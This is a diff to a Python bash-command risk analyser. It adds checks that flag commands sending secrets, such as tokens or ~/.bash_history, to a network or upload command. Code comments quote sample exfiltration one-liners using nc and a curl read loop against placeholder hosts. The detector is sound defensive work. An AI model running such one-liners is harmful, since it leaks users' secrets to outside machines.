@@ -246,6 +246,8 @@ class Analyser:
         body = node.child_by_field_name("body")
         if body is not None and body.type == "command":
             return  # the command picks up these redirections itself
+        if body is not None and body.type == "while_statement":
+            self._read_loop_flow(node, body)
         owner = _last_command(body)
         if owner is not None:
             # `cd /tmp && nc host 9 < f`: tree-sitter hangs `< f` on the list; bash gives it
@@ -330,7 +332,11 @@ class Analyser:
                 "machine",
                 node_text(node),
             )
-
+        values = [i for i, kinds in enumerate(all_kinds) if "secret_value" in kinds]
+        takers = [i for i, kinds in enumerate(all_kinds) if kinds & {"network", "upload"}]
+        if values and takers and min(values) < max(takers):
+            reason = "sends a secret from your environment (a token or password) to a server"
+            self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node))
         self._gathered_flow(node, all_kinds)
 
     def _gathered_flow(self, node: Node, all_kinds: list[set[str]]) -> None:
@@ -357,6 +363,21 @@ class Analyser:
                 kinds |= self.ctx.word_kinds(evaluate(value)) & _EXECUTING
         if name is not None and kinds:
             self.ctx.tainted[node_text(name)] = frozenset(kinds)
+
+    def _read_loop_flow(self, node: Node, body: Node) -> None:
+        """`while read l; do curl -d "$l" URL; done < ~/.bash_history`: each line sent away."""
+        if not SENDING_CALLS.search(node_text(body)):
+            return
+        for redirect in statement_redirects(node):
+            what = (
+                secret_path(redirect.target.value)
+                if redirect.op == "<" and redirect.target
+                else None
+            )
+            if what:
+                reason = f"sends {what} to another machine, one line at a time"
+                self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])
+                return
 
     def _loop_flow(self, node: Node) -> None:
         reason = loop_flow(node, self.kinds_of) or _loop_over_secrets(node)
@@ -451,7 +472,7 @@ class Analyser:
             return
         self.ctx.variables.pop(name, None)
         kinds = self.ctx.word_kinds(value)
-        if kinds & {"download", "decode", "network"}:
+        if kinds & {"download", "decode", "network", "secret"}:
             self.ctx.tainted[name] = kinds
         if len(value.substitutions) == 1 and value.value == SUBSTITUTED:
             text = literal_output(value.substitutions[0])
